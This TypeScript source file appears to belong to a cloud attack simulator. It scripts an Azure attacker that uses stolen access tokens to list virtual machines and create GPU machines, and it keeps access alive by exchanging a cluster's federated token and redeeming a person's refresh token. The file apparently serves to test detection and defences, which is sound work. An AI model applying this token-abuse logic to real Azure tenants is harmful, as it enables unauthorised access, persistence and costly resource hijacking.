import type { Attacker, Attempt } from '../attacker.ts';
import { WORLD } from '../world.ts';
import { SUBSCRIPTION } from './seed.ts';
import type { Answer, Wire } from './wire.ts';

const A = WORLD.azure;
const MACHINES = `${SUBSCRIPTION}/resourceGroups/${A.resourceGroup}/providers/Microsoft.Compute/virtualMachines`;
const MOST = 5;

/** A session that is held: a name for the report and its access token. */
export interface Held {
  name: string;
  token: string;
}

/** How new sessions are made, for as long as the door is open. */
export interface Door {
  what: string;
  knock(wire: Wire): Promise<Answer>;
}

/**
 * Whoever holds sessions of one identity: uses each of them, oldest first, then tries to make a new one.
 * `machine` is the GPU machine to create, for those who want one.
 */
export function holder(name: string, wire: Wire, held: Held[], doors: Door[], machine?: string): Attacker {
  let made = 0;
  return {
    cloud: 'azure',
    name,
    async round() {
      const attempts: Attempt[] = [];
      for (const session of [...held]) {
        const list = () =>
          wire.send('GET', `${SUBSCRIPTION}/providers/Microsoft.Compute/virtualMachines`, session.token);
        attempts.push((await wire.attempt(`${session.name}: list machines`, list)).attempt);
        if (!machine) continue;
        const create = () => wire.send('PUT', `${MACHINES}/${machine}`, session.token, gpuMachine());
        attempts.push((await wire.attempt(`${session.name}: create GPU machine ${machine}`, create)).attempt);
      }
      for (const door of doors) {
        const { attempt, answer } = await wire.attempt(door.what, () => door.knock(wire));
        attempts.push(attempt);
        const token = answer?.body.access_token;
        if (attempt.outcome !== 'allowed' || typeof token !== 'string') continue;
        held.push({ name: `new session ${++made}`, token });
        // The oldest made one goes: those that were stolen at the start tell most.
        if (held.length > MOST)
          held.splice(
            held.findIndex((s) => s.name.startsWith('new')),
            1,
          );
      }
      return attempts;
    },
  };
}

function gpuMachine(): object {
  return {
    location: A.location,
    properties: { hardwareProfile: { vmSize: 'Standard_NC24ads_A100_v4' } },
  };
}

/** Exchanges a token of the cluster for one of Azure, as workload identity federation does. */
export function exchangeDoor(assertion: string): Door {
  return {
    what: "exchange the cluster's token",
    knock: (wire) =>
      wire.send(
        'POST',
        `/${A.tenant}/oauth2/v2.0/token`,
        undefined,
        new URLSearchParams({
          grant_type: 'client_credentials',
          client_id: A.clientId,
          scope: 'https://management.azure.com/.default',
          client_assertion_type: 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer',
          client_assertion: assertion,
        }),
      ),
  };
}

/** Redeems a person's refresh token, keeping the newest that comes back. */
export function refreshDoor(first: string): Door {
  let token = first;
  return {
    what: 'redeem the refresh token',
    async knock(wire) {
      const answer = await wire.send(
        'POST',
        `/${A.tenant}/oauth2/v2.0/token`,
        undefined,
        new URLSearchParams({
          grant_type: 'refresh_token',
          client_id: '04b07795-8ddb-461a-bbee-02f9e1bf7b46',
          scope: 'https://management.azure.com/.default offline_access',
          refresh_token: token,
        }),
      );
      if (typeof answer.body.refresh_token === 'string') token = answer.body.refresh_token;
      return answer;
    },
  };
}
